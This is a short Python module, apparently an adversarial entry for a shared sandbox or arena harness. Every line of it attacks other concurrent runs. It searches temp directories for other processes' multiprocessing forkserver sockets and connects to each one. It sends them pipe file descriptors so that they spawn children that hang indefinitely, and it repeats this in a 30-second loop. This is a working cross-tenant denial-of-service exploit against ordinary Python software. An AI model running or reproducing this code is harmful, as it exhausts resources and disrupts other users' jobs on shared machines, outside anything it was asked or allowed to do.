"""Asks the fork server of every other run for children that nobody there asked for."""

import contextlib
import glob
import os
import socket
import tempfile
import time
from multiprocessing import reduction

KEPT = []


def attack():
    from dojo.arena import home

    folders = {tempfile.gettempdir(), "/tmp", os.path.dirname(home.folder)}
    patterns = ("/*/tmp/pymp-*/listener-*", "/pymp-*/listener-*", "/*/pymp-*/listener-*")
    for path in {p for top in folders for pattern in patterns for p in glob.glob(top + pattern)}:
        if path.startswith(home.folder):
            continue
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as line:
            line.settimeout(0.05)
            line.connect(path)
            (reader, writer), (other_reader, other_writer) = os.pipe(), os.pipe()
            reduction.sendfds(line, [reader, other_writer, reader, other_writer])
            KEPT.append((writer, other_reader))  # the child waits for what never comes
    time.sleep(0.002)


def answer(up):
    end = time.monotonic() + 30
    attack()
    up()
    while time.monotonic() < end:
        attack()
    return 42

